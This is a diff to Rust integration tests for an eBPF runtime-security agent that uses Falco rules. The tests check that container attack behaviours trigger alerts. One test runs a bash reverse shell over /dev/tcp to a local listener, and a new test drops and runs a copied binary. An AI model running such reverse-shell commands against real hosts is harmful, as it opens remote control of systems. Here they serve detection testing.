@@ -79,6 +79,85 @@ fn kill_response_ends_a_process_a_rule_flags() {
     assert!(summary.events[0] > 0);
 }
 
+/// `timeout 60 podman run --rm OPTIONS… localhost/rampart/app:1.0` (the fixture image; add the
+/// command), with the shared containers.conf; `None` (a skip, an error in CI) without podman.
+fn podman_run(options: &[&str]) -> Option<std::process::Command> {
+    let podman_ok = std::process::Command::new("podman")
+        .arg("--version")
+        .output()
+        .is_ok_and(|o| o.status.success());
+    if !podman_ok {
+        assert!(!rampart_testkit::in_ci(), "podman must be installed in CI");
+        eprintln!("skipping: no podman");
+        return None;
+    }
+    let mut cmd = std::process::Command::new("timeout");
+    cmd.args(["60", "podman", "run", "--rm"])
+        .args(options)
+        .arg("localhost/rampart/app:1.0");
+    if let Some(conf) = rampart_testkit::shared("peers/containers.conf") {
+        cmd.env("CONTAINERS_CONF", conf);
+    }
+    Some(cmd)
+}
+
+/// Waits (5 s at most) for alerts of `rule`.
+fn alerts_of(collect: &Collect, rule: &str) -> Vec<rampart_runtime::Alert> {
+    let deadline = Instant::now() + Duration::from_secs(5);
+    loop {
+        let hits: Vec<_> = collect
+            .alerts()
+            .into_iter()
+            .filter(|a| a.rule == rule)
+            .collect();
+        if !hits.is_empty() || Instant::now() > deadline {
+            return hits;
+        }
+        std::thread::sleep(Duration::from_millis(50));
+    }
+}
+
+/// Drop and execute (event-generator's `syscall.DropAndExecuteNewBinaryInContainer`): a binary
+/// copied into the container's writable layer and run fires "Drop and execute new binary in
+/// container" (`proc.is_exe_upper_layer`, from the overlay upper directory podman reports); the
+/// image's own binaries do not. The session leader names `proc.sname`.
+#[test]
+fn dropped_binary_in_container_fires_the_upper_layer_rule() {
+    if let Err(e) = preflight() {
+        assert!(!rampart_testkit::in_ci(), "eBPF must run in CI: {e}");
+        eprintln!("skipping: {e}");
+        return;
+    }
+    let Some(mut cmd) = podman_run(&[]) else {
+        return;
+    };
+    let (running, collect) = agent_with_stable_rules();
+    // sleep a moment first so the agent has the container's metadata when the drop runs
+    cmd.args([
+        "sh",
+        "-c",
+        "sleep 1; cp /bin/sleep /tmp/rampart-dropped && /tmp/rampart-dropped 2",
+    ]);
+    let out = cmd.output().expect("podman runs");
+    let found = alerts_of(&collect, "Drop and execute new binary in container");
+    running.stop();
+    running.wait();
+    assert!(
+        !found.is_empty(),
+        "the rule fired; podman: {} {}",
+        out.status,
+        String::from_utf8_lossy(&out.stderr)
+    );
+    assert!(
+        found
+            .iter()
+            .all(|a| a.output_fields["proc.exepath"] == "/tmp/rampart-dropped"),
+        "only the dropped binary: {found:?}"
+    );
+    let a = &found[0];
+    assert_eq!(a.output_fields["proc.sname"], "sh", "{a:?}");
+}
+
 /// The agent with Falco's stable rules, alerts collected in memory.
 fn agent_with_stable_rules() -> (rampart_runtime::agent::Running, Collect) {
     let rules = rampart_testkit::shared("testdata/falcosecurity-rules/rules/falco_rules.yaml")
@@ -143,15 +222,9 @@ fn reverse_shell_in_container_fires_the_redirect_rule() {
         eprintln!("skipping: {e}");
         return;
     }
-    let podman_ok = std::process::Command::new("podman")
-        .arg("--version")
-        .output()
-        .is_ok_and(|o| o.status.success());
-    if !podman_ok {
-        assert!(!rampart_testkit::in_ci(), "podman must be installed in CI");
-        eprintln!("skipping: no podman");
+    let Some(mut cmd) = podman_run(&["--network", "host"]) else {
         return;
-    }
+    };
     let (running, collect) = agent_with_stable_rules();
     let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
     let port = listener.local_addr().unwrap().port();
@@ -165,24 +238,11 @@ fn reverse_shell_in_container_fires_the_redirect_rule() {
             std::thread::sleep(Duration::from_millis(500));
         }
     });
-    let mut cmd = std::process::Command::new("timeout");
     cmd.args([
-        "60",
-        "podman",
-        "run",
-        "--rm",
-        "--network",
-        "host",
-        "localhost/rampart/app:1.0",
-    ])
-    .args([
         "bash",
         "-c",
         &format!("bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1"),
     ]);
-    if let Some(conf) = rampart_testkit::shared("peers/containers.conf") {
-        cmd.env("CONTAINERS_CONF", conf);
-    }
     let out = cmd.output().expect("podman runs");
     let _ = attacker.join();
     let deadline = Instant::now() + Duration::from_secs(5);
